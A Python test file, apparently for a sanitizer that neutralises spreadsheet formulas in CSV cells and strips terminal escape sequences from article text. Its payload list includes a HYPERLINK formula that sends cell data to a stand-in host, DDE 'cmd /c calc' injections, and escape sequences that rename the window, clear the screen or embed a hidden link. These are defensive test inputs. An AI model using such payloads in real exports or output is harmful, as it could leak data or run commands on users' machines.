"""Article text is shown as itself: a CSV cell never starts a formula, a terminal never receives
an escape sequence or a control character (`kg.textsafe`)."""
import csv
import io
import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from kg.textsafe import FORMULA_STARTS, csv_cell, csv_row, terminal_text

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /c calc'!A0", "-2+3+cmd|' /c calc'!A0",
           "@SUM(1+1)*cmd|' /c calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]


def _read_back(cells):
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row(cells))
    return next(csv.reader(io.StringIO(buf.getvalue())))


def test_a_cell_that_starts_a_formula_gets_an_apostrophe():
    assert _read_back(ATTACKS) == ["'" + a for a in ATTACKS]


def test_numbers_and_plain_text_are_left_as_they_are():
    assert csv_row([-1, 0.5, "-3", "+0.25", "-1e3", ".5", "Hamas", "a=b", "", None]) == \
        ["-1", "0.5", "-3", "+0.25", "-1e3", ".5", "Hamas", "a=b", "", ""]


@given(st.text())
def test_no_cell_read_back_starts_a_formula_and_the_apostrophe_alone_is_added(text):
    cell = _read_back([text])[0] if text else ""
    if cell.startswith(FORMULA_STARTS):
        assert float(cell) == float(text)  # a number, left alone
    else:
        assert cell in (text, "'" + text)
        assert (cell == text) == (not text.startswith(FORMULA_STARTS))


def test_escape_sequences_leave_no_trace():
    title = "Kabul\x1b]0;window renamed\x07 falls\x1b[2J\x1b[H \x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\"
    assert terminal_text(title) == "Kabul falls link"
    assert terminal_text("\x9b31mred\x9d0;title\x9c done\x7f\x00") == "red done"


def test_markup_brackets_newlines_and_tabs_are_kept():
    assert terminal_text("[/quote] [link=http://x.example]y[/link]\n\tz") == \
        "[/quote] [link=http://x.example]y[/link]\n\tz"
    assert terminal_text(None) == "" and terminal_text(3) == "3"


@given(st.text())
def test_terminal_text_has_no_control_characters_and_is_stable(text):
    out = terminal_text(text)
    assert all(c in "\n\t" or unicodedata.category(c) != "Cc" for c in out)
    assert terminal_text(out) == out
    if not any(unicodedata.category(c) == "Cc" and c not in "\n\t" for c in text):
        assert out == text
